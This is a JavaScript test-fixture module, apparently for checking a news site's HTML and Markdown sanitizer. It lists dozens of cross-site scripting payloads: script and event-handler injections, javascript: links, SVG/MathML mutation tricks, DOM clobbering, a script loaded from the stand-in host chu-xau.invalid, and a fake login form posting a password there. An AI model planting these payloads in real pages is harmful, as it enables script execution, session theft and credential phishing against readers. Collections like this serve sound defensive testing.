// What somebody might write into an article, or into the fields of a site, so that it runs in the browser of who reads it. `ran` is
// what each of them calls; nothing of it may ever be called. Our own collection, by where a page could go wrong.
const call = (at) => `loaRan(${at})`;

/// Strings for fields that hold words: title, lead, what a picture shows, names, notices.
export const LINES = [
  (x) => `<script>${x}</script>`,
  (x) => `"><img src=x onerror=${x}>`,
  (x) => `'><svg onload=${x}>`,
  (x) => `</title><script>${x}</script>`,
  (x) => `</textarea><script>${x}</script>`,
  // Out of JSON inside a script, and into the state of two scripts.
  (x) => `</script><script>${x}</script>`,
  (x) => `<!--<script>${x}//`,
  (x) => `"}</script><img src=x onerror=${x}>`,
  (x) => `\\"};${x};//`,
  // Out of a CDATA of a feed, as an element that runs in XML.
  (x) => `]]><script xmlns="http://www.w3.org/1999/xhtml">${x}</script>`,
  (x) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${x}</x:script>`,
  // Out of an attribute with and without its sign.
  (x) => `x" autofocus onfocus="${x}" a="`,
  (x) => `x' onmouseover='${x}' a='`,
  (x) => `x onpointerenter=${x} y`,
  (x) => `javascript:${x}`,
  (x) => `&lt;img src=x onerror=${x}&gt;`,
  (x) => `&#60;script&#62;${x}&#60;/script&#62;`,
  (x) => `\u003cscript\u003e${x}\u003c/script\u003e`,
  (x) => `{{constructor.constructor('${x}')()}} \${${x}} <%= ${x} %>`,
  (x) => `\u202e<script>${x}</script>\u2028<script>${x}</script>`,
  (x) => `＜script＞${x}＜/script＞`,
].map((make, at) => make(call(at)));

/// Bodies: Markdown, HTML, and what becomes HTML only when it is read a second time.
export const BODIES = [
  // Elements that run.
  (x) => `<script>${x}</script><script src="//chu-xau.invalid/a.js"></script><ScRiPt\n>${x}</sCrIpT >`,
  (x) => `<img src=x onerror=${x}><img/src="x"/onerror="${x}"><image src=x onerror=${x}>`,
  (x) => `<video><source onerror=${x}></video><audio src=x onerror=${x}></audio><video poster=javascript:${x}//></video>`,
  (x) => `<details open ontoggle=${x}><summary>a</summary></details><marquee onstart=${x}>a</marquee><body onload=${x}>`,
  (x) => `<input autofocus onfocus=${x}><select autofocus onfocus=${x}></select><textarea autofocus onfocus=${x}></textarea><button onclick=${x} popovertarget=p>a</button><p id=p popover onbeforetoggle=${x}>a</p>`,
  (x) => `<p style="animation-name:x" onanimationstart=${x} onmouseover=${x} tabindex=0 onfocus=${x} contenteditable>a</p><style>@keyframes x{}</style>`,
  (x) => `<iframe src="javascript:parent.${x}"></iframe><iframe srcdoc="<script>parent.${x}</script>"></iframe><frameset onload=${x}></frameset>`,
  (x) => `<object data="data:text/html,<script>opener.${x}</script>"></object><embed src="data:image/svg+xml,<svg onload=${x}/>"><applet code=x></applet><portal src="//chu-xau.invalid"></portal>`,
  // Where the page or what it sends goes.
  (x) => `<meta http-equiv=refresh content="0;url=//chu-xau.invalid/"><meta http-equiv="Content-Security-Policy" content="script-src *"><meta http-equiv=Set-Cookie content="a=${x}">`,
  () => `<base href="//chu-xau.invalid/"><link rel=stylesheet href="//chu-xau.invalid/a.css"><link rel=preload as=script href="//chu-xau.invalid/a.js"><link rel=dns-prefetch href="//chu-xau.invalid">`,
  (x) => `<form action="//chu-xau.invalid/" method=post id=f><input name=mat-khau><button formaction="javascript:${x}">Đăng nhập</button></form><button form=f formaction="//chu-xau.invalid">a</button><isindex action=javascript:${x}>`,
  () => `<style>@import url("//chu-xau.invalid/a.css"); body{background:url(//chu-xau.invalid/b.png)} .loa-header{display:none}</style><p style="background:url(//chu-xau.invalid/c.png);position:fixed;inset:0">a</p><table background="//chu-xau.invalid/d.png"><tr><td background="//chu-xau.invalid/e.png">a</td></tr></table>`,
  () => `<img src="//chu-xau.invalid/a.png" srcset="//chu-xau.invalid/b.png 2x"><picture><source srcset="//chu-xau.invalid/c.png"></picture><blockquote cite="//chu-xau.invalid">a</blockquote><a href="/" ping="//chu-xau.invalid/p">a</a>`,
  // Links.
  (x) => `<a href="javascript:${x}">a</a><a href=" \u0001javascript:${x}">a</a><a href="java\nscript:${x}">a</a><a href="JaVaScRiPt&colon;${x}">a</a><a href="&#106;avascript:${x}">a</a><a href="vbscript:${x}">a</a><a href="data:text/html,<script>${x}</script>">a</a><a href="//chu-xau.invalid" target=_self onclick=${x}>a</a>`,
  (x) => `[a](javascript:${x}) [a](<javascript:${x}>) [a](data:text/html;base64,PHNjcmlwdD4=) [a](JAVASCRIPT:${x}) [a](java&#115;cript:${x}) [a](\\javascript:${x})\n\n[b]\n\n[b]: javascript:${x} "a"`,
  (x) => `[a](http://a "\\" onmouseover=\\"${x}") ![a](x"onerror="${x}) ![a](javascript:${x}) <javascript:${x}> <http://a"onclick=${x}//>`,
  (x) => `javascript://%0a${x} http://a/"onmouseover="${x} www.a.vn/'onclick='${x}`,
  (x) => `[x](https://a.vn/<svg/onload=${x}>) [<img src=x onerror=${x}>](https://a.vn) | <script>${x}</script> |\n| --- |\n| <img src=x onerror=${x}> |`,
  // Markdown around HTML, HTML around Markdown.
  (x) => `\`\`\`"><img src=x onerror=${x}>\n</code><script>${x}</script>\n\`\`\`\n\n\`<script>${x}</script>\``,
  (x) => `- <div\n  onmouseover=${x}\n\n<div\n\nonclick="${x}">a</div>\n\n<![CDATA[<img src=x onerror=${x}>]]>\n\n<?php <img src=x onerror=${x}> ?>`,
  (x) => `# <script>${x}</script>\n\n> <img src=x onerror=${x}>\n\n<a title="\n\n<img src=x onerror=${x}>\n\n">a</a>`,
  // Read once more it is something else: other rules inside SVG and MathML, tables, templates, what is only text.
  (x) => `<svg><style><img src="</style><img src=x onerror=${x}>"></style></svg>`,
  (x) => `<math><mi><table><mi><style><!--</style><i title="--&gt;&lt;img src=x onerror=${x}&gt;">a</i></table></math>`,
  (x) => `<svg><p><style><g title="</style><img src=x onerror=${x}>"></p></svg><svg></p><title><a id="</title><img src=x onerror=${x}>"></svg>`,
  (x) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${x}></style></form>`,
  (x) => `<noscript><p title="</noscript><img src=x onerror=${x}>"></noscript><xmp><p title="</xmp><img src=x onerror=${x}>"></xmp><noembed><p title="</noembed><img src=x onerror=${x}>"></noembed>`,
  (x) => `<template><script>${x}</script></template><textarea><p title="</textarea><img src=x onerror=${x}>"></textarea><title><p title="</title><img src=x onerror=${x}>"></title><plaintext><img src=x onerror=${x}>`,
  (x) => `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:${x}"><text y=20>a</text></a><use href="data:image/svg+xml,<svg id=x onload=${x}>#x"/><animate onbegin=${x} attributeName=x dur=1s /><set attributeName=href to=javascript:${x} /><foreignObject><img src=x onerror=${x}></foreignObject><script href="//chu-xau.invalid/a.js"/></svg>`,
  (x) => `<math href="javascript:${x}">a</math><math><maction actiontype="statusline#//a" xlink:href="javascript:${x}">a</maction><annotation-xml encoding="text/html"><img src=x onerror=${x}></annotation-xml></math>`,
  // Comments that do not end, or end otherwise than they look.
  (x) => `<!-- <img src=x onerror=${x}>`,
  (x) => `<!--><img src=x onerror=${x}>--> <!--!><img src=x onerror=${x}> <!-- --!><img src=x onerror=${x}> --> <!-- a--><script>${x}</script>`,
  (x) => `<!--[if gte mso 9]><xml><img src=x onerror=${x}></xml><![endif]--><p class=MsoNormal><!--[if !supportLists]--><img src=x onerror=${x}><!--[endif]-->a</p><![if !mso]><script>${x}</script><![endif]>`,
  (x) => `<p class=MsoListParagraph style='mso-list:l0 level1 lfo1'"><script>${x}</script></p><o:p onclick=${x}>a</o:p><v:shape onload=${x}><v:imagedata src="//chu-xau.invalid/v.png"/></v:shape>`,
  // Tags that do not end.
  (x) => `<img src=x onerror=${x} //\n\n<a href="//chu-xau.invalid`,
  (x) => `<p title='<script>${x}</script>' <img src=x onerror=${x}\n><<script>${x}//<</script>`,
  // Names that scripts look up.
  () => `<a id=caches name=document>a</a><img name=getElementById><form id=navigator><input name=share></form><p id=loaRan data-print data-share="//chu-xau.invalid" data-module=govuk-button>a</p>`,
  // Signs that some readers take for others.
  (x) => `\u0000<scr\u0000ipt>${x}</script><img src=x onerror\u000b=${x}><img\u00a0src=x\u00a0onerror=${x}>+ADw-script+AD4-${x}+ADw-/script+AD4-`,
].map((make, at) => make(call(1000 + at)));
